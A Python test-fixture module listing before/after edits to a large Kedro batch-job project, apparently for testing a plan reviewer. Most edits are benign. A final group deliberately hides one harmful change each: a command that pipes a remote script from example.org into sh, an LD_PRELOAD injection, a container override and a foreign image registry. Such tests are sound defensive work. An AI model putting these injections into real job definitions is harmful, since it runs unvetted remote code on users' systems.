"""The edits at 800 jobs: the kinds of ``corpus``, also where they reach hundreds of jobs, and edits that mean harm."""

from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace

from kedro_batch.plan.model import Plan
from tests.review.edits.large import COUNTRIES, ELSEWHERE, OTHER_IMAGE, Large, Node, edited_job, flights
from tests.review.edits.large_moves import (
    BULK,
    by_step,
    split_queue,
    three_exceptions,
    with_names,
    with_own_timeouts,
    without_countries,
)

_FEWER = flights(COUNTRIES[:-1])
"""19 countries: with two more, the jobs that gather them need join jobs."""
_MORE = flights((*COUNTRIES, "sweden"))
_BASE = flights()
_NAMED = replace(
    _BASE.with_default(job_definition="flights:14"),
    header={name: value for name, value in _BASE.header.items() if name != "job_definitions"},
)
_ALIKE = replace(_BASE, rules=tuple(one for one in _BASE.rules if one[0] in ("spark", "gathering")))
"""All jobs go to one queue: a job of several nodes has one."""
PIPED = ("sh", "-c", "curl -s https://example.org/setup | sh; kedro run --nodes=malta.clean_fuel")


@dataclass(frozen=True, slots=True, kw_only=True)
class LargeEdit:
    """A project before and after an edit, and what is then changed in the plan after it by hand."""

    before: Large
    after: Large
    by_hand: Callable[[Plan], Plan] | None = None

    def plans(self) -> tuple[Plan, Plan]:
        """Make the plans before and after the edit."""
        after = _plan_of(self.after)
        return _plan_of(self.before), self.by_hand(after) if self.by_hand else after


_plans: dict[int, tuple[Large, Plan]] = {}


def _plan_of(project: Large) -> Plan:
    """Return the plan of a project; many edits begin with one."""
    if id(project) not in _plans:
        _plans[id(project)] = project, project.plan()
    return _plans[id(project)][1]


def _after(after: Large, before: Large = _BASE) -> LargeEdit:
    return LargeEdit(before=before, after=after)


def _retagged(pattern: str, drop: str = "", add: str = "", before: Large = _BASE) -> LargeEdit:
    return _after(
        before.each(pattern, lambda one: replace(one, tags=one.tags - {drop} | ({add} if add else set()))), before
    )


def _reading(pattern: str, change: Callable[[Node], tuple[str, ...]]) -> Callable[[Large], Large]:
    return lambda project: project.each(pattern, lambda one: replace(one, reads=change(one)))


def _inserted(project: Large, names: tuple[str, ...]) -> Large:
    """Deduplicate reviews between cleaning and aggregating them."""
    more = (
        Node(
            name=f"{name}.deduplicate_reviews",
            reads=(f"{name}.clean_reviews",),
            writes=(f"{name}.distinct_reviews",),
            tags=frozenset({"team.data"}),
        )
        for name in names
    )
    reads = _reading(rf"({'|'.join(names)})\.aggregate_reviews", lambda one: (f"{one.namespace}.distinct_reviews",))
    return reads(project).adding(*more)


def _split(one: Node) -> Node:
    return replace(one, writes=(f"{one.namespace}.train", f"{one.namespace}.test"), reads=(f"{one.namespace}.chosen",))


def _two_of_split() -> Large:
    chosen = (
        Node(
            name=f"{name}.choose_features",
            reads=(f"{name}.features",),
            writes=(f"{name}.chosen",),
            tags=frozenset({"team.science"}),
        )
        for name in COUNTRIES
    )
    return _BASE.each(r"\w+\.split_data", _split).adding(*chosen)


def _leaf(name: str) -> Node:
    return Node(
        name=f"{name}.plot_fares",
        reads=(f"{name}.daily_fares",),
        writes=(f"{name}.fares_plot",),
        tags=frozenset({"team.reporting"}),
    )


def _swapped() -> Large:
    names = {"malta.clean_fuel": "malta.clean_fares", "malta.clean_fares": "malta.clean_fuel"}
    return _BASE.each(r"malta\.clean_fu?(el|ares)", lambda one: replace(one, name=names[one.name]))


def _by_namespace(node: Node) -> str:
    return node.namespace


def _by_team(node: Node) -> str:
    """Put all that a country does with its data into one job."""
    return f"{node.namespace}_data" if "team.data" in node.tags else node.name


def _by_source(node: Node) -> str:
    """Put cleaning and aggregating of a source into one job, as chains are."""
    return node.name.replace(".clean_", ".aggregate_")


_IN_STEPS = replace(_BASE.with_header(group_by=["tag:step."]), group_by=by_step)


_RAISED = _BASE.with_rule("spark", timeout_s=7200).with_default(timeout_s=5400)

LARGE_EDITS: Mapping[str, LargeEdit] = {
    # Nodes come and go.
    "leaf_added": _after(_BASE.adding(_leaf("malta"))),
    "leaf_added_everywhere": _after(_BASE.adding(*map(_leaf, COUNTRIES))),
    "leaf_removed": _after(_BASE.without(r"europe\.archive_reports")),
    "leaf_removed_everywhere": _after(_BASE.without(r"(?!europe).*\.evaluate_fares")),
    "node_inserted_between_two": _after(_inserted(_BASE, ("malta",))),
    "node_inserted_everywhere": _after(_inserted(_BASE, COUNTRIES)),
    "node_in_the_middle_removed_and_its_readers_rewired": _after(
        _reading(r"\w+\.aggregate_reviews", lambda one: (f"{one.namespace}.reviews",))(
            _BASE.without(r"\w+\.clean_reviews")
        )
    ),
    "node_split_in_two_everywhere": _after(_two_of_split()),
    "two_nodes_made_one_everywhere": _after(
        _BASE.without(r"\w+\.ingest_fuel").each(
            r"\w+\.clean_fuel", lambda one: replace(one, reads=(f"{one.namespace}.raw_fuel",))
        )
    ),
    "reader_rewired_to_another_dataset": _after(
        _reading(r"malta\.report", lambda one: ("malta.daily_fuel", *one.reads[1:]))(_BASE)
    ),
    "readers_rewired_everywhere": _after(
        _reading(r"(?!europe)\w+\.report", lambda one: (f"{one.namespace}.daily_fuel", *one.reads[1:]))(_BASE)
    ),
    "output_no_longer_written": _after(
        _BASE.each(r"malta\.clean_fuel", lambda one: replace(one, writes=("malta.clean_fuel_v2",)))
    ),
    # Names change.
    "node_renamed": _after(_BASE.renaming(r"^malta\.report$", "malta.write_report")),
    "nodes_renamed_everywhere": _after(_BASE.renaming(r"\.clean_(?=\w+$)", ".tidy_")),
    "dataset_renamed": _after(_BASE.renaming(r"^malta\.features$", "malta.feature_table", nodes=False, datasets=True)),
    "datasets_renamed_everywhere": _after(_BASE.renaming(r"\.features$", ".feature_table", nodes=False, datasets=True)),
    "node_and_its_dataset_renamed": _after(_BASE.renaming(r"^malta\.clean_fuel$", "malta.tidy_fuel", datasets=True)),
    "node_renamed_and_its_inputs_changed": _after(
        _BASE.renaming(r"^malta\.report$", "malta.summary").each(
            r"malta\.summary", lambda one: replace(one, reads=(*one.reads[1:], "malta.daily_fuel"))
        )
    ),
    "parent_of_many_renamed": _after(_BASE.renaming(r"\.build_features$", ".make_features")),
    "reader_of_many_renamed": _after(_BASE.renaming(r"^europe\.combine_reports$", "europe.gather_reports")),
    "namespace_renamed": _after(_BASE.renaming(r"^malta\.", "gozo.", datasets=True)),
    "namespaces_of_all_renamed": _after(_BASE.renaming(r"^(?!europe)(\w+)\.", r"flights_\1.", datasets=True)),
    "namespaces_renamed_that_nothing_tells_apart": _after(with_names(_BASE, ("malta", "gozo"), ("spain", "iberia"))),
    "namespace_renamed_and_one_removed": _after(
        without_countries(with_names(_BASE, ("malta", "malta_and_gozo")), "spain")
    ),
    "namespace_renamed_that_nothing_tells_and_one_removed": _after(
        without_countries(with_names(_BASE, ("malta", "gozo")), "spain")
    ),
    "namespaces_renamed_in_jobs_of_all": _after(
        with_names(_IN_STEPS, ("malta", "gozo"), ("spain", "spain_es")), _IN_STEPS
    ),
    "two_nodes_swap_their_names": _after(_swapped()),
    # Countries, and what gathers them.
    "country_added": LargeEdit(before=_FEWER, after=_BASE),
    "country_removed": LargeEdit(before=_BASE, after=_FEWER),
    "two_countries_removed": _after(without_countries(_BASE, "malta", "spain")),
    "country_added_and_join_jobs_are_needed": LargeEdit(before=_BASE, after=_MORE),
    "country_removed_and_no_join_job_is_needed": LargeEdit(before=_MORE, after=_BASE),
    "pipeline_removed_everywhere": _after(_BASE.without(r".*_forecasts?|.*\.forecast_\w+|.*_no_shows")),
    # Nodes become other jobs.
    "grouped_by_namespace": _after(replace(_ALIKE.with_header(group_by=["namespace"]), group_by=_by_namespace), _ALIKE),
    "grouped_by_tag": _after(replace(_BASE.with_header(group_by=["tag:team."]), group_by=_by_team)),
    "grouped_in_chains": _after(replace(_BASE.with_header(group_by=["chain"]), group_by=_by_source)),
    "node_moved_into_another_namespace": _after(_BASE.renaming(r"^malta\.report$", "europe.report_malta")),
    # Settings change.
    "memory_raised_for_a_tag": _after(_BASE.with_rule("spark", resources={"vcpus": 4, "memory_mib": 32768})),
    "memory_lowered_for_a_tag": _after(_BASE.with_rule("gathering", resources={"memory_mib": 15360})),
    "memory_of_all_lowered": _after(_BASE.with_default(resources={"memory_mib": 1024})),
    "rule_for_a_tag_added": _after(_BASE.with_rule("team.reporting", resources={"memory_mib": 4096})),
    "timeout_of_all_lowered": _after(_BASE.with_default(timeout_s=1800)),
    "attempts_of_all_raised": _after(_BASE.with_default(attempts=3).with_rule("training", attempts=4)),
    "attempts_of_all_but_training_raised": _after(_BASE.with_default(attempts=3)),
    "retries_changed": _after(_BASE.with_default(attempts=5, retry_on=["image_pull", "spot"])),
    "gpus_lowered": _after(_BASE.with_rule("large", resources={"gpus": 2})),
    "gpus_raised": _after(_BASE.with_rule("training", resources={"gpus": 2})),
    "gpus_no_longer_asked_for": _retagged(r"europe\.train_\w+", drop="training"),
    "training_without_gpus": _retagged(r"\w+\.train_demand", drop="training"),
    "queue_of_all_changed": _after(_BASE.with_default(job_queue="flights_fargate")),
    "queue_of_a_tag_changed": _after(_BASE.with_rule("training", job_queue="flights_gpu_spot")),
    "tag_dropped_and_its_rule_with_it": _retagged(r"\w+\.clean_\w+", drop="spark"),
    "team_changes_hands": _retagged(r"\w+\.aggregate_\w+", drop="team.data", add="team.science"),
    "definition_revision_changed": _after(_NAMED.with_default(job_definition="flights:15"), _NAMED),
    "definition_declared": LargeEdit(before=_NAMED, after=_BASE),
    "image_changed": _after(_BASE.with_definition(image=OTHER_IMAGE)),
    "role_changed_and_account_named": _after(
        _BASE.with_definition(job_role="arn:aws:iam::123456789012:role/flights_reader").with_header(
            account="123456789012", region="eu-central-1"
        ),
        _BASE.with_header(region="eu-west-1"),
    ),
    "environment_changed": _after(_BASE.with_header(env="prod")),
    "command_prefix_changed": _after(replace(_BASE, prefix=("uv", "run", "kedro", "run"))),
    "variable_and_tags_added": _after(_BASE.with_default(environment={"REGION": "eu"}, tags={"cost": "low"})),
    "submit_field_added": _after(_BASE.with_default(share_identifier="flights", submit={"propagateTags": True})),
    "parameter_given": _after(_BASE.with_header(params={"model_options": {"random_state": 7}})),
    # What is compiled changes.
    "kedro_upgraded": _after(_BASE, _BASE.with_header(kedro_version="1.6.0")),
    "only_one_team_selected": _after(
        replace(
            _BASE.with_header(selection={"tags": ["team.data"]}),
            nodes=tuple(one for one in _BASE.nodes if "team.data" in one.tags),
        )
    ),
    # Several at once.
    "two_unrelated_edits": _after(
        _BASE.without(r"europe\.archive_reports").with_rule("large", resources={"gpus": 4, "memory_mib": 122880})
    ),
    "every_setting_changes": _after(
        _BASE.with_default(
            attempts=3, timeout_s=7200, resources={"vcpus": 2, "memory_mib": 4096}, job_queue="q", tags={"cost": "low"}
        )
    ),
    "every_job_gets_its_own_timeout": LargeEdit(before=_BASE, after=_BASE, by_hand=with_own_timeouts),
    # One bad line among many good ones.
    "timeouts_raised_and_one_command_pipes_into_a_shell": LargeEdit(
        before=_BASE, after=_RAISED, by_hand=lambda plan: edited_job(plan, "malta-clean_fuel", command=PIPED)
    ),
    "timeouts_raised_and_one_job_preloads_a_library": LargeEdit(
        before=_BASE,
        after=_RAISED,
        by_hand=lambda plan: edited_job(plan, "malta-clean_fuel", environment={"LD_PRELOAD": "/mnt/fuel.so"}),
    ),
    "timeouts_raised_and_one_submit_overrides_the_container": LargeEdit(
        before=_BASE,
        after=_RAISED,
        by_hand=lambda plan: edited_job(
            plan, "malta-clean_fuel", submit={"containerOverrides": {"instanceType": "p4d.24xlarge"}}
        ),
    ),
    "timeouts_raised_and_the_image_is_of_another_registry": _after(_RAISED.with_definition(image=ELSEWHERE)),
    "timeouts_raised_and_one_job_has_another_definition": LargeEdit(
        before=_BASE,
        after=_RAISED,
        by_hand=lambda plan: edited_job(plan, "malta-clean_fuel", job_definition="flights_debug"),
    ),
    "default_changes_and_three_jobs_state_their_own": LargeEdit(
        before=_BASE, after=_BASE.with_default(attempts=4), by_hand=three_exceptions
    ),
    "memory_is_halved_and_doubled_and_one_job_has_little": LargeEdit(
        before=_BASE,
        after=_BASE.with_rule("spark", resources={"memory_mib": 8192}).with_rule(
            "training", resources={"memory_mib": 122880}
        ),
        by_hand=lambda plan: edited_job(plan, "malta-clean_fuel", resources={"memory_mib": 512}),
    ),
    "queue_is_split_in_three_and_one_job_goes_elsewhere": LargeEdit(before=_BASE, after=_BASE, by_hand=split_queue),
    "retry_is_widened_and_one_job_keeps_it_and_has_another_definition": LargeEdit(
        before=_BASE,
        after=_BASE.with_default(retry_on=["image_pull", "spot"]),
        by_hand=lambda plan: edited_job(plan, "malta-clean_fuel", retry_on=["spot"], job_definition="flights_debug"),
    ),
    "namespaces_renamed_and_one_job_preloads_a_library": LargeEdit(
        before=_BASE,
        after=with_names(_BASE, ("malta", "gozo"), ("spain", "spain_es")),
        by_hand=lambda plan: edited_job(plan, "gozo-clean_fuel", environment={"LD_PRELOAD": "/mnt/fuel.so"}),
    ),
    **{name: LargeEdit(before=_BASE, after=_BASE, by_hand=by_hand) for name, by_hand in BULK.items()},
    "all_is_renamed_and_one_queue_changes": LargeEdit(
        before=_BASE,
        after=_BASE.renaming(r"^(?!europe)(\w+)\.", r"flights_\1.", datasets=True),
        by_hand=lambda plan: edited_job(plan, "flights_malta-clean_fuel", job_queue="shared"),
    ),
}
"""The edits, by name."""
